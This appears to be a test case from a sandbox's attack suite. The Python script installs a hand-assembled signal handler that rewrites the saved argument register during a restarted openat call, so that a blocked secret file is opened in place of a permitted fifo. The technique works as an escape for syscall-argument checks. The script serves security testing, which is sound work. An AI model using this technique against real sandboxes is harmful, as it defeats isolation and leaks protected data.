# SPDX-License-Identifier: Apache-2.0
# attack: the handler that interrupts a blocking open finds its registers on the stack and changes them
# class: restart
# wins: leak
from kit import *

bad = ctypes.create_string_buffer(os.fsencode(SECRET))
fifo = os.fsencode(BOX + '/fifo')
# rdx = ucontext: gregs are at +40; rsi at +40+8*9
h = code('48b8' + struct.pack('<Q', address(bad)).hex() + '48894270' 'c3')
sigaction(14, h, 0x10000000 | 4)
tried()
for i in range(20):
    ticker(20000)
    fd = sc('openat', AT_FDCWD, fifo, 0, 0)
    signal.setitimer(signal.ITIMER_REAL, 0)
    if fd >= 0:
        took(fd)
